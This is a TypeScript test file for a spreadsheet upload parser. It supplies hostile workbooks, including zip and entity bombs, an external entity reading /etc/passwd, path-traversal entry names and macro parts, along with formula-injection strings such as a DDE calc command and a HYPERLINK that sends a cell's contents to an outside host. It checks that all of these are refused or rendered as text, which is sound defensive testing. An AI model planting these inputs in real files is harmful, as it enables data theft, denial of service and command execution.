import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { build } from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_UPLOAD_BYTES } from '../../../shared/documents/xlsx/guard-workbook.ts';
import type { WorkbookFault } from '../../../shared/documents/xlsx/workbook-fault.ts';
import { writeTemplate } from '../../../shared/documents/xlsx/write-template.ts';
import { sayWorkbookFault } from '../../../shared/wording/workbook-faults.ts';
import { edited, FORM, faultsOf, linesOf, typed } from '../../support/edited-workbook.ts';
import {
  BUSY_WORKBOOKS,
  CELL_BOMB,
  withEntries,
  withPackedSheet,
  ZERO_BOMB,
} from '../../support/hostile-workbooks.ts';
import {
  changed,
  packed,
  relation,
  relations,
  SHEET,
  smallWorkbook,
  unpacked,
  withSheet,
} from '../../support/raw-workbook.ts';
import type { HostileReading } from '../../support/read-hostile.ts';
import { filledRows, sampleTemplate } from '../../support/sample-template.ts';
import { WIDE_LINES, WIDE_ROWS, wideFilled } from '../../support/wide-template.ts';

type Hostile = readonly [name: string, bytes: () => Uint8Array, fault: Partial<WorkbookFault>];

const unsafe = (why: string) => ({ kind: 'UnsafeWorkbook', why }) as Partial<WorkbookFault>;
const broken = (where: string) => ({ kind: 'DamagedWorkbook', where }) as Partial<WorkbookFault>;
const plus = (parts: Record<string, string | Uint8Array>) =>
  packed({ ...smallWorkbook(), ...parts });
const ENTITY_BOMB = `<!DOCTYPE a [<!ENTITY a0 "ha">${Array.from(
  { length: 30 },
  (_, index) => `<!ENTITY a${index + 1} "&a${index};&a${index};">`,
).join('')}]>`;
const EXTERNAL = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>';
const named = (name: string) => withEntries([{ name, content: 'x' }]);
const macro = '<Types><Override PartName="/xl/workbook.xml" ContentType="macroEnabled"/></Types>';

const HOSTILE: readonly Hostile[] = [
  [
    '1 MB that becomes 1 GB, and says so',
    () => withPackedSheet(ZERO_BOMB.packed, ZERO_BOMB.sizeBytes),
    unsafe('TOO_MUCH_CONTENT'),
  ],
  [
    '1 MB that becomes 1 GB, and says 100 kB',
    () => withPackedSheet(ZERO_BOMB.packed, 100_000),
    broken('CONTENT'),
  ],
  [
    '3 MB of 20 million cells',
    () => withPackedSheet(CELL_BOMB.packed, CELL_BOMB.sizeBytes),
    unsafe('TOO_MUCH_CONTENT'),
  ],
  [
    '3 MB of 20 million cells that says 10 MB',
    () => withPackedSheet(CELL_BOMB.packed, 10_000_000),
    broken('CONTENT'),
  ],
  [
    '100 MB of zeros in an entry',
    () => plus({ 'xl/media/a.bin': new Uint8Array(100 * 1024 * 1024) }),
    unsafe('TOO_MUCH_CONTENT'),
  ],
  [
    'zeros as far as an upload goes',
    () => new Uint8Array(MAX_UPLOAD_BYTES),
    { kind: 'UnknownFile' },
  ],
  [
    '100 MB of zeros',
    () => new Uint8Array(100 * 1024 * 1024),
    { kind: 'FileTooLarge', sizeBytes: MAX_UPLOAD_BYTES + 1 },
  ],
  [
    'zip64 by its directory',
    () => packed(smallWorkbook(), undefined, { locator: true }),
    unsafe('ZIP64'),
  ],
  [
    'zip64 by one entry',
    () => changed(SHEET, { extra: Buffer.from('01001000'.padEnd(40, '0'), 'hex') }),
    unsafe('ZIP64'),
  ],
  [
    'a dimension of 1,048,576 × 16,384',
    () => withSheet('<dimension ref="A1:XFD1048576"/><sheetData/>'),
    { kind: 'SheetTooLarge', cell: 'XFD1048576' },
  ],
  [
    'a cell in the last corner',
    () => withSheet('<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    { kind: 'SheetTooLarge', cell: 'XFD1048576' },
  ],
  [
    'a merge of the whole sheet',
    () => withSheet('<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    { kind: 'MergeTooLarge' },
  ],
  [
    'an entity bomb',
    () => plus({ [SHEET]: `${ENTITY_BOMB}<worksheet>&a30;</worksheet>` }),
    unsafe('DOCUMENT_TYPE'),
  ],
  [
    'an external entity',
    () => plus({ [SHEET]: `${EXTERNAL}<worksheet>&b;</worksheet>` }),
    unsafe('DOCUMENT_TYPE'),
  ],
  [
    'an external entity in a part nobody reads',
    () => plus({ 'customXml/item1.xml': `${EXTERNAL}<a>&b;</a>` }),
    unsafe('DOCUMENT_TYPE'),
  ],
  ...(['utf16le', 'utf16be'] as const).flatMap((encoding) =>
    ['\ufeff', ''].map((mark): Hostile => {
      const text = Buffer.from(`${mark}${EXTERNAL}<worksheet/>`, 'utf16le');
      return [
        `a document type in ${encoding} ${mark === '' ? 'without' : 'with'} a mark`,
        () => plus({ [SHEET]: encoding === 'utf16le' ? text : Buffer.from(text).swap16() }),
        unsafe('TEXT_ENCODING'),
      ];
    }),
  ),
  [
    'a document type in EBCDIC by declaration',
    () => plus({ [SHEET]: '<?xml version="1.0" encoding="IBM037"?><worksheet/>' }),
    unsafe('TEXT_ENCODING'),
  ],
  ['two entries of one name', () => named(SHEET), unsafe('DUPLICATE_NAME')],
  [
    'two entries of one name in other letters',
    () => named('XL/Worksheets/Sheet1.XML'),
    unsafe('DUPLICATE_NAME'),
  ],
  ...[
    '../../../etc/cron.d/a',
    'xl/../../a.xml',
    '/etc/passwd',
    'C:\\Windows\\a.dll',
    'xl\\a.xml',
    'xl//a.xml',
    'a\u0000.xml',
    'a\u001b[2J.xml',
  ].map(
    (name): Hostile => [
      `an entry called ${JSON.stringify(name)}`,
      () => named(name),
      unsafe('UNSAFE_NAME'),
    ],
  ),
  ['macros', () => plus({ 'xl/vbaProject.bin': 'x' }), { kind: 'MacroWorkbook' }],
  [
    'macros of 1992',
    () => plus({ 'xl/macrosheets/sheet1.xml': '<a/>' }),
    { kind: 'MacroWorkbook' },
  ],
  ['macros by type alone', () => plus({ '[Content_Types].xml': macro }), { kind: 'MacroWorkbook' }],
  [
    'a link that is fetched on opening',
    () =>
      plus({
        'xl/worksheets/_rels/sheet1.xml.rels': relations(
          relation('rId1', 'image', 'http://a.example/b.png', ' TargetMode="External"'),
        ),
      }),
    { kind: 'ExternalLinks' },
  ],
  [
    'a password on the workbook',
    () =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(1000),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ]),
    { kind: 'EncryptedWorkbook' },
  ],
  ['a password on one entry', () => changed(SHEET, { flags: 1 }), unsafe('ENCRYPTED_ENTRY')],
  ['half a workbook', () => wideFilled.subarray(0, wideFilled.length / 2), broken('TRUNCATED')],
  ['a workbook without its last byte', () => wideFilled.subarray(0, -1), broken('TRUNCATED')],
  [
    'a workbook with a byte more',
    () => Buffer.concat([wideFilled, Buffer.of(0)]),
    broken('TRUNCATED'),
  ],
  ['control characters in a note', () => typed('L8', 'a\u0007b', wideFilled), broken('XML')],
  [
    'control characters in a note, as numbers',
    () => typed('L8', 'a&#7;b', wideFilled),
    broken('XML'),
  ],
  [
    'control characters in the name of a sheet',
    () => plus({ 'xl/workbook.xml': workbookNamed('a&#27;[2J') }),
    broken('XML'),
  ],
];

/** What costs most is read alone, so that what it costs is its own. */
const BUSY = Object.entries(BUSY_WORKBOOKS).map(
  ([name, { bytes, fault }]): Hostile => [name, bytes, fault],
);

function workbookNamed(name: string): string {
  return String(smallWorkbook()['xl/workbook.xml']).replace('name="Trang"', `name="${name}"`);
}

/** Most memory that a reader may have had, the process it runs in included. */
const MOST_MEGABYTES = 150;
const run = promisify(execFile);
let folder = '';
const readings = new Map<string, HostileReading>();

/** Reads files in a process of their own, bundled as a function is: the least memory that Node takes is 40 MB. */
async function readApart(reader: string, files: readonly Hostile[]): Promise<void> {
  const place = await mkdtemp(join(folder, 'files-'));
  for (const [index, [, bytes]] of files.entries())
    await writeFile(join(place, `${String(index).padStart(3, '0')}.xlsx`), bytes());
  const { stdout } = await run(process.execPath, ['--max-old-space-size=64', reader, place]);
  await rm(place, { recursive: true });
  for (const [index, line] of stdout.trim().split('\n').entries())
    readings.set(files[index]?.[0] ?? '', JSON.parse(line));
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hostile-'));
  const reader = join(folder, 'reader.mjs');
  const entry = new URL('../../support/read-hostile.ts', import.meta.url).pathname;
  const bundling = { bundle: true, platform: 'node', format: 'esm', minify: true } as const;
  await build({ ...bundling, entryPoints: [entry], outfile: reader, logLevel: 'error' });
  await readApart(reader, HOSTILE);
  for (const file of BUSY) await readApart(reader, [file]);
  const table = [...readings].map(
    ([name, { milliseconds, megabytes }]) => `${milliseconds} ms, ${megabytes} MB: ${name}`,
  );
  console.info(table.join('\n'));
}, 120_000);
afterAll(() => rm(folder, { recursive: true, force: true }));

describe('hostile workbooks', () => {
  it.each([...HOSTILE, ...BUSY].map(([name, , fault]) => [name, fault] as const))(
    'refuses %s by name, in little memory',
    (name, fault) => {
      const reading = readings.get(name);
      expect(reading?.fault).toMatchObject(fault);
      expect(reading?.megabytes).toBeLessThan(MOST_MEGABYTES);
      const { what, mend } = sayWorkbookFault(reading?.fault as WorkbookFault);
      expect(what.length).toBeGreaterThan(10);
      expect(what.length + mend.length).toBeLessThan(500);
    },
  );
});

describe('texts that programs take for more than text', () => {
  const TEXTS = [
    '=HYPERLINK("http://a.example?"&A1;"bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '+84 296 3852 000',
    '-1+2',
    '@SUM(A1:A9)',
    '<script>alert(1)</script>',
    '</t></is></c><c><f>1</f></c>',
    '&amp;lt; &#60;',
    ']]>',
    '_x003D_1+1',
    '#REF!',
  ];

  it.each(TEXTS)(
    'takes %s in as it stands, and sends it out as text, never as a formula',
    async (text) => {
      const lines = WIDE_LINES.map((line) => ({ ...line, explanation: text, evidence: text }));
      const rows = filledRows(lines, WIDE_ROWS).map((row) => ({
        ...row,
        title: `${text} ${row.numbering}`,
      }));
      const whole = {
        ...sampleTemplate(rows),
        unit: text,
        bloc: text,
        period: text,
        ruleSet: text,
      };
      const sent = await writeTemplate(whole);
      expect(await linesOf(sent)).toEqual(lines);
      const { [FORM]: form = '', ...others } = unpacked(sent);
      const formulas = [...form.matchAll(/<f>(.*?)<\/f>/g)].map(([, formula]) => formula);
      expect(formulas.every((formula) => /^SUBTOTAL\(9,K\d+:K\d+\)$/.test(formula ?? ''))).toBe(
        true,
      );
      for (const [part, xml] of Object.entries(others))
        if (part.startsWith('xl/worksheets/')) expect(xml, part).not.toMatch(/<f[ >/]| t="e"/);
      expect(form).not.toContain(' t="e"');
    },
  );

  it('says the name of a sheet short and without what nobody can see', async () => {
    const name = `\u200b<script>alert(1)</script>${'x'.repeat(9000)}`;
    const renamed = edited(
      typed('I8', '', wideFilled),
      (xml) => xml.replace('name="Bản tự chấm"', `name="${name.replaceAll('<', '&lt;')}"`),
      'xl/workbook.xml',
    );
    const faulty = edited(renamed, (xml) =>
      xml.replace(/(<c r="I8"[^>]*>).*?<\/c>/, '$1<f>1</f></c>'),
    );
    expect(await faultsOf(faulty)).toEqual([
      { kind: 'FormulaInInput', cell: '<script>alert(1)</script>xxxxxxxxxxxxxxx!I8' },
    ]);
  });
});
